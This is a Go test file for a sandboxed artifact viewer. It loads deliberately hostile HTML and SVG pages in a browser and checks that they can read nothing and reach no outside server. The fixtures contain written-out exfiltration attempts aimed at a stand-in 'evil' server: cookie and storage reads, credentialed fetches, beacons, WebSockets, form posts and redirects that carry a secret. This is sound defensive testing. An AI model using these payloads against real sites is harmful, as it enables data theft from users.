package view_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/tenonrun/tenon/artifact"
	"github.com/tenonrun/tenon/artifact/export"
	"github.com/tenonrun/tenon/artifact/view"
)

// evil is a server that nothing may reach.
type evil struct {
	*httptest.Server
	mu   sync.Mutex
	hits []string
	left bool
	once sync.Once
	many chan struct{} // closed when ten requests came, one of them by leaving the page
}

func newEvil(t *testing.T) *evil {
	t.Helper()
	e := &evil{many: make(chan struct{})}
	e.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/page" { // the control: a page without any protection
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, hostilePage(e.URL, e.URL))
			return
		}
		e.mu.Lock()
		defer e.mu.Unlock()
		e.hits = append(e.hits, r.Method+" "+r.URL.Path)
		e.left = e.left || r.URL.Path == "/form" || r.URL.Path == "/top"
		if e.left && len(e.hits) >= 10 {
			e.once.Do(func() { close(e.many) })
		}
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	t.Cleanup(e.Close)
	return e
}

func (e *evil) seen() []string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.hits
}

// hostilePage tries everything, and keeps in window.results what it could read.
func hostilePage(evil, app string) string {
	return strings.NewReplacer("EVIL", evil, "APP", app, "WS", strings.Replace(evil, "http", "ws", 1)).Replace(`<!doctype html>
<link rel="stylesheet" href="EVIL/style"><link rel="prefetch" href="EVIL/prefetch"><link rel="manifest" href="EVIL/manifest">
<style>@import "EVIL/import"; body { background: url(EVIL/background) } @font-face { font-family: x; src: url(EVIL/font) } p { font-family: x }</style>
<p>hello<img src="EVIL/img"><video src="EVIL/video" autoplay></video><iframe src="EVIL/frame"></iframe><object data="EVIL/object"></object><embed src="EVIL/embed">
<svg><image href="EVIL/svg-image"/></svg><a id="a" href="EVIL/a" ping="EVIL/ping">a</a>
<form id="f" action="EVIL/form" method="post"><input name="x" value="1"></form>
<script src="EVIL/script"></script>
<script>
const results = {};
const attempt = (name, f) => { try { results[name] = String(f()) } catch (e) { results[name] = "refused" } };
attempt("cookie", () => document.cookie + "readable");
attempt("local", () => localStorage.length);
attempt("session", () => sessionStorage.length);
attempt("database", () => indexedDB.open("x"));
attempt("parent", () => parent === window ? alone : parent.document.title);
attempt("parentLocation", () => parent === window ? alone : parent.location.href);
attempt("beacon", () => { navigator.sendBeacon("EVIL/beacon", "x"); throw 0 });
attempt("socket", () => { new WebSocket("WS/socket"); throw 0 });
attempt("events", () => { new EventSource("EVIL/events"); throw 0 });
attempt("popup", () => { if (window.open("EVIL/popup")) return "opened"; throw 0 });
attempt("worker", () => { new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/worker')"]))); throw 0 });
attempt("form", () => { document.getElementById("f").submit(); throw 0 });
attempt("top", () => { top.location = "EVIL/top"; throw 0 });
const ask = async (name, url) => { try { const r = await fetch(url, { credentials: "include" }); results[name] = await r.text() } catch { results[name] = "refused" } };
window.finished = Promise.all([ask("fetch", "EVIL/fetch"), ask("api", "APP/api/artifact"), ask("page", "APP/"), ask("other", location.href.replace(/\d+$/, "2"))]).then(() => JSON.stringify(results));
</script>`)
}

// leaves are the ways to take the page, and a secret with it, to another server.
var leaves = []string{
	`location.href = "EVIL/self?secret"`,
	`location.replace("EVIL/self?secret")`,
	`document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0;url=EVIL/self?secret">')`,
	`document.getElementById("a").click()`,
	`document.open(); document.write('<meta http-equiv="refresh" content="0;url=EVIL/self?secret">'); document.close()`,
}

// TestBrowser shows artifacts in a real browser.
func TestBrowser(t *testing.T) {
	t.Parallel()
	b := newBrowser(t)
	t.Run("hostile page", func(t *testing.T) { hostile(t, b) })
	for _, leave := range leaves {
		t.Run(leave, func(t *testing.T) { leaving(t, b, leave) })
	}
	t.Run("published page", func(t *testing.T) { published(t, b) })
	t.Run("hostile drawing", func(t *testing.T) { drawing(t, b) })
	t.Run("canvas", func(t *testing.T) { canvas(t, b) })
	t.Run("large page", func(t *testing.T) { large(t, b) })
}

// shown is an artifact in the browser.
type shown struct {
	store           artifact.Store
	viewer          *view.Viewer
	target, session string
}

// watch opens an artifact in the browser.
func watch(t *testing.T, b *browser, c view.Config, mime, content string) (s *shown) {
	t.Helper()
	var err error
	c.Store, err = artifact.NewMemory(artifact.MemoryConfig{}).Open(t.Context(), "c")
	must(t, err)
	c.ID = "a"
	_, err = c.Store.Put(t.Context(), artifact.Draft{ID: c.ID, Title: "T", Mime: mime, Content: content})
	must(t, err)
	s = &shown{store: c.Store}
	s.viewer, err = view.Open(t.Context(), c)
	must(t, err)
	t.Cleanup(func() { must(t, s.viewer.Close()) })
	s.target, s.session = b.page(t, s.viewer.URL())
	return s
}

// hostile: a page that tries everything reads nothing and reaches nobody. The same
// page without protection does, so the test would see it.
func hostile(t *testing.T, b *browser) {
	control := newEvil(t)
	b.page(t, control.URL+"/page")
	select {
	case <-control.many:
	case <-b.ctx.Done():
		t.Fatalf("the page is tame: it only reached %q", control.seen())
	}

	e := newEvil(t)
	session := watch(t, b, view.Config{}, "text/html", hostilePage(e.URL, "http://localhost")).session
	frame := b.frame(t)
	b.until(t, frame, "window.finished")
	got := fmt.Sprint(b.eval(t, frame, "window.finished"))
	for _, name := range []string{"cookie", "local", "session", "database", "parent", "parentLocation", "fetch", "api", "page", "other", "popup", "top"} {
		if !strings.Contains(got, `"`+name+`":"refused"`) {
			t.Errorf("%s was not refused: %s", name, got)
		}
	}
	if hits := e.seen(); len(hits) > 0 {
		t.Errorf("the other server was reached: %q", hits)
	}
	if now := b.eval(t, session, "document.querySelectorAll('iframe').length + ' ' + location.pathname.slice(0, 6)"); now != "1 /open/" {
		t.Errorf("our page is %v now", now)
	}
}

// leaving: a page that goes to another server does not get there.
func leaving(t *testing.T, b *browser, leave string) {
	e := newEvil(t)
	session := watch(t, b, view.Config{}, "text/html", `<p>secret<a id=a href="`+e.URL+`/self?secret" ping="`+e.URL+`/ping">a</a>`).session
	frame := b.frame(t)
	b.until(t, session, "(addEventListener('securitypolicyviolation', e => { window.stopped = e.violatedDirective }), true)")
	b.until(t, frame, "document.getElementById('a')")
	b.eval(t, frame, "setTimeout(() => { "+strings.ReplaceAll(leave, "EVIL", e.URL)+" }), true")
	b.until(t, session, "window.stopped === 'frame-src'")
	if hits := e.seen(); len(hits) > 0 {
		t.Errorf("the other server was reached: %q", hits)
	}
}

// published: a published page on a host of any kind reads nothing of that host, and
// reaches nobody.
func published(t *testing.T, b *browser) {
	e := newEvil(t)
	content := hostilePage(e.URL, e.URL) + `<a id=b href="` + e.URL + `/self">b</a>`
	page, err := export.Page(&artifact.Revision{Artifact: "a", Title: "T", Mime: "text/html", Version: 1}, content, "2026-01-02")
	must(t, err)
	host := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.SetCookie(w, &http.Cookie{Name: "session", Value: "secret"})
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Write(page)
	}))
	t.Cleanup(host.Close)
	_, session := b.page(t, host.URL)
	frame := b.frame(t)
	b.until(t, session, "(addEventListener('securitypolicyviolation', e => { window.stopped = e.violatedDirective }), document.readyState === 'complete')")
	b.until(t, frame, "window.finished")
	got := fmt.Sprint(b.eval(t, frame, "window.finished"))
	for _, name := range []string{"cookie", "local", "session", "database", "parent", "parentLocation", "fetch", "popup", "top"} {
		if !strings.Contains(got, `"`+name+`":"refused"`) {
			t.Errorf("%s was not refused: %s", name, got)
		}
	}
	b.eval(t, frame, "setTimeout(() => document.getElementById('b').click()), true")
	b.until(t, session, "window.stopped === 'frame-src'")
	if hits := e.seen(); len(hits) > 0 {
		t.Errorf("the other server was reached: %q", hits)
	}
}

// drawing: a drawing with scripts is a picture.
func drawing(t *testing.T, b *browser) {
	e := newEvil(t)
	svg := strings.ReplaceAll(`<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30" onload="fetch('EVIL/onload')"><script>fetch('EVIL/script')</script>
<image href="EVIL/image" width="5" height="5"/><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="EVIL/foreign"/><script>fetch('EVIL/inner')</script></body></foreignObject></svg>`, "EVIL", e.URL)
	session := watch(t, b, view.Config{}, "image/svg+xml", svg).session
	b.until(t, session, "document.querySelector('#stage img').complete && document.querySelector('#stage img').naturalWidth === 40")
	address := fmt.Sprint(b.eval(t, session, "document.querySelector('#stage img').src"))
	_, session = b.page(t, address) // as a document of its own
	b.until(t, session, "document.readyState === 'complete' && document.documentElement.localName === 'svg'")
	if hits := e.seen(); len(hits) > 0 {
		t.Errorf("the other server was reached: %q", hits)
	}
}

// canvas: what a person does to a canvas is saved as theirs when they press the
// button, and only then; the viewer ends with the page.
func canvas(t *testing.T, b *browser) {
	const content = `<!doctype html><title>x</title><section data-artboard="One"><p>first</p></section><section data-artboard="Two"><p>second</p></section>
<script>addEventListener("message", e => { if (e.ports[0]) e.ports[0].postMessage("forged") })</script>`
	saved := make(chan artifact.Descriptor, 10)
	s := watch(t, b, view.Config{Saved: func(d artifact.Descriptor) { saved <- d }}, artifact.CanvasMime, content)
	frame := b.frame(t)
	b.until(t, frame, "document.querySelectorAll('.tenon-name').length === 2")
	b.until(t, s.session, "!document.getElementById('save').hidden && port")
	b.eval(t, s.session, "document.getElementById('save').click()") // not a person
	b.eval(t, frame, `document.querySelector("p").textContent = "changed"; document.querySelector("section").style.left = "77px"`)
	b.click(t, s.session, "#save", 1)
	var d artifact.Descriptor
	select {
	case d = <-saved:
	case <-b.ctx.Done():
		t.Fatal("nothing is saved")
	}
	if d.Version != 2 || d.Author != artifact.Person || len(saved) > 0 {
		t.Errorf("it is saved as %+v", d)
	}
	_, kept, err := s.store.Read(t.Context(), "a", 2)
	must(t, err)
	names, err := artifact.Artboards(kept)
	must(t, err)
	if fmt.Sprint(names) != "[One Two]" || !strings.Contains(kept, "changed") || !strings.Contains(kept, "77px") ||
		strings.Contains(kept, "tenon") || strings.Contains(kept, "contenteditable") || !strings.HasPrefix(kept, "<!doctype html>") {
		t.Errorf("the canvas is\n%s", kept)
	}
	b.call(t, "", "Target.closeTarget", map[string]any{"targetId": s.target}, nil)
	must(t, s.viewer.Wait())
}

// large: a page of 20 MB opens.
func large(t *testing.T, b *browser) {
	const size = 20 << 20
	content := `<p>here</p><script type="text/plain" id="x">` + strings.Repeat("0123456789abcdef", size/16) + `</script><script>window.here = true</script>`
	watch(t, b, view.Config{}, "text/html", content)
	frame := b.frame(t)
	b.until(t, frame, "window.here")
	if n := b.eval(t, frame, "document.getElementById('x').textContent.length"); n != float64(size) {
		t.Errorf("%v characters arrived", n)
	}
}
